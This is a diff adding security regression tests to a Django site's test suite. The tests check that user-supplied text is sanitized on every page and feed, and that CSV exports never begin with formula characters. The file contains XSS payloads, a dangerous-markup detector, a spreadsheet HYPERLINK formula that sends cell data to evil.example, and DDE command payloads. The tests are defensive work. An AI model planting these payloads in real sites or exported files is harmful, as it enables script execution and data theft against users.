@@ -1,7 +1,11 @@
 """A security review's attacks, kept as tests: each tries to break a rule of DESIGN.md
 with real requests and must keep failing to."""
 
+import csv
 import datetime
+import io
+from html.parser import HTMLParser
+from xml.etree import ElementTree
 
 import pytest
 from django.test import Client
@@ -189,3 +193,99 @@ def test_staff_cannot_change_the_other_citys_or_a_confirmed_transfer_in_the_admi
         staff_admin.post(admin_url(Transfer, "delete", transfer.pk), {"post": "yes"})
         transfer.refresh_from_db()
         assert transfer.people == 10
+
+
+# User text ------------------------------------------------------------------------
+
+EVIL = (
+    "<script>alert(1)</script> [click](javascript:alert(2)) "
+    '<img src=x onerror="alert(3)"> <a href="JaVaScRiPt:alert(4)">x</a> '
+    "[data](data:text/html;base64,PHNjcmlwdD4=) <svg onload=alert(5)>"
+)
+EVIL_NAME = '<svg onload=alert(9)>"Evil&City'
+
+
+class _Dangerous(HTMLParser):
+    """Collects the tags and attributes a browser would run: inline scripts, event
+    handlers, and javascript:/data: links."""
+
+    def __init__(self):
+        super().__init__()
+        self.found = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag in ("script", "iframe", "object", "embed") and not dict(attrs).get("src"):
+            self.found.append(tag)
+        if tag == "script" and dict(attrs).get("src", "").startswith(("http", "//")):
+            self.found.append(f"external script {dict(attrs)['src']}")
+        for name, value in attrs:
+            compact = "".join((value or "").split()).lower()
+            if name.startswith("on") or compact.startswith(
+                ("javascript:", "data:text", "vbscript:")
+            ):
+                self.found.append(f"{tag} {name}={value}")
+
+    handle_startendtag = handle_starttag
+
+
+def _assert_clean(body, where, feed=False):
+    texts = [body]
+    if feed:
+        # Atom text constructs are plain text unless they say type="html".
+        elements = ElementTree.fromstring(body).iter()  # noqa: S314 (our own feed)
+        texts = [e.text or "" for e in elements if e.get("type") in ("html", "xhtml")]
+        assert texts, where
+    for text in texts:
+        parser = _Dangerous()
+        parser.feed(text)
+        assert not parser.found, (where, parser.found)
+
+
+def test_markup_in_user_text_is_sanitized_everywhere(barcelona, quito_staff, quito):
+    quito.profile = EVIL
+    quito.name = EVIL_NAME
+    quito.save()
+    forum = builders.forum(quito, edition=3, year=2016, summary=EVIL)
+    builders.outcome("evil", forum=forum, full_text=EVIL, summary=EVIL, title=EVIL_NAME)
+    shown = builders.commitment(quito, title=EVIL_NAME, description=EVIL)
+    services.add_progress_update(
+        shown, quito_staff, date=datetime.date(2021, 1, 1), text=EVIL, percent=20,
+    )  # fmt: skip
+    agreement = builders.agreement(quito, barcelona, notes=EVIL)
+    for path in [
+        "/", "/cities/", f"/cities/{quito.slug}/", "/outcomes/", "/outcomes/evil/",
+        "/forums/", "/forums/forum-3/", f"/commitments/{shown.pk}/", "/commitments/",
+        f"/relocations/{agreement.pk}/", "/relocations/", "/search/?q=evil",
+        "/feeds/updates/", f"/cities/{quito.slug}/feed/",
+    ]:  # fmt: skip
+        response = Client().get(path)
+        assert response.status_code == 200, path
+        _assert_clean(response.content.decode(), path, feed="/feed" in path)
+
+
+# Spreadsheet formulas --------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_public_csv_cells_never_start_a_formula(barcelona):
+    shown = builders.commitment(barcelona, title=FORMULA, description="+cmd|' /C calc'!A0")
+    shown.themes.set([builders.theme("-1")])
+    body = b"".join(Client().get("/commitments/?format=csv").streaming_content).decode()
+    for row in csv.reader(io.StringIO(body)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@")), cell
+            assert not (cell.startswith("-") and cell != "-1"), cell
+
+
+def test_admin_csv_export_cells_never_start_a_formula(barcelona):
+    from import_export.formats.base_formats import CSV
+
+    from commitments.resources import CommitmentResource
+
+    builders.commitment(barcelona, title=FORMULA, description="@SUM(1+1)*cmd|' /C calc'!A0")
+    dataset = CommitmentResource().export()
+    body = CSV().export_data(dataset)
+    for row in csv.reader(io.StringIO(body)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@")), cell
